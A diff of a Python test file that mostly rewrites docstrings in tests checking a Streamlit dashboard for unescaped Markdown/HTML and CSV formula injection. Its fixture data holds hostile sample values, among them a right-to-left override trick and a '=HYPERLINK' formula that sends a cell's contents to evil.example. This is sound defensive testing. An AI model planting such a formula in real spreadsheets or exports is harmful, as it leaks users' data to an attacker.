@@ -1,6 +1,4 @@
-"""Texts of runs, studies and addresses on every page: shown as they are, whatever Markdown or
-HTML would make of them.
-"""
+"""Every page shows texts of runs, studies and addresses literally, not as Markdown or HTML."""
 
 from __future__ import annotations
 
@@ -52,7 +50,7 @@ NAMES = (
     "&lt;b&gt; turned\u202eback | https://evil.example",
     '=HYPERLINK("http://evil.example/?" & A1, "Results")',
 )
-# What would be more than text where Markdown is shown, and where HTML is shown.
+# Unescaped markup that Markdown elements would render; REFUSED lists it for HTML elements.
 MARKDOWN = (
     "![x]",
     "[x](",
@@ -84,14 +82,12 @@ PLAIN = {
     "TextInput",
     "Image",
 }
-ATTRIBUTES = {"alt"}  # of an HTML element: plain text
+ATTRIBUTES = {"alt"}  # of HTML elements: plain text
 
 
 @pytest.fixture
 def hostile(trained: Callable[..., RunDir]) -> None:
-    """Runs, of which all but the first belong to a study, with such texts wherever a journal
-    has one.
-    """
+    """Runs with hostile texts wherever a journal has text; all but the first belong to a study."""
     for number, name in enumerate(NAMES, start=1):
         run = trained(f"quick-000{number}", seconds=number, xla="jit" if number % 2 else "off")
         lines = [
@@ -126,9 +122,7 @@ def hostile(trained: Callable[..., RunDir]) -> None:
 
 
 def more_than_text(app: AppTest) -> list[str]:
-    """What the page sends to be shown as Markdown or HTML, where one of the texts is not
-    escaped in it.
-    """
+    """Markdown and HTML texts of the page that contain unescaped markup."""
     return [
         text
         for kind, text in page_texts(whole_page.tree(app))
@@ -137,7 +131,7 @@ def more_than_text(app: AppTest) -> list[str]:
 
 
 def page_texts(block: Any) -> Iterator[tuple[str, str]]:
-    """The kind of each element of the page, with each of its strings."""
+    """The element kind and the text of every string on the page."""
     for child in block.children.values():
         if isinstance(child, Block):
             yield from page_texts(child)
@@ -147,7 +141,7 @@ def page_texts(block: Any) -> Iterator[tuple[str, str]]:
 
 
 def strings(message: Message) -> Iterator[str]:
-    """The text fields of a message and of those within it."""
+    """The text fields of a message and its nested messages."""
     for field, value in message.ListFields():
         if field.name in ATTRIBUTES:
             continue
@@ -170,7 +164,7 @@ def test_pages_escape_markup_in_run_texts(show: Show, page: str, query: dict[str
 @pytest.mark.usefixtures("hostile")
 @pytest.mark.parametrize("page", ["runs", "compare", "run", "studies"])
 def test_tables_and_charts_contain_no_spreadsheet_formulas(show: Show, page: str) -> None:
-    """Both can be copied and downloaded as CSV, by Streamlit's own bar above them."""
+    """Streamlit's toolbar above them copies both and downloads them as CSV."""
     query = EVALUATED if page == "run" else {"runs": "quick-0005,quick-0001"}
     app = show(page, **query)
     assert not app.exception
@@ -180,7 +174,7 @@ def test_tables_and_charts_contain_no_spreadsheet_formulas(show: Show, page: str
 
 
 def tables_of(block: Any) -> Iterator[pd.DataFrame]:
-    """Every table that the page sends: those that it shows, and the rows of its charts."""
+    """Every table that the page sends: displayed tables and the rows of charts."""
     for child in block.children.values():
         if isinstance(child, Block):
             yield from tables_of(child)
@@ -190,7 +184,7 @@ def tables_of(block: Any) -> Iterator[pd.DataFrame]:
 
 
 def arrow(message: Message) -> Iterator[bytes]:
-    """What a message and those within it hold in Arrow's IPC format."""
+    """The Arrow IPC data of a message and its nested messages."""
     for field, value in message.ListFields():
         for entry in value if field.is_repeated else [value]:
             if isinstance(entry, bytes) and entry.startswith(b"\xff\xff\xff\xff"):
@@ -200,7 +194,7 @@ def arrow(message: Message) -> Iterator[bytes]:
 
 
 def cells_of(table: pd.DataFrame) -> Iterator[str]:
-    """The texts in it, the names of its columns and those in lists too."""
+    """The texts of a table, including column names and texts in lists."""
     for values in ([*table.columns], *(table[name] for name in table)):
         for value in values:
             yield from (
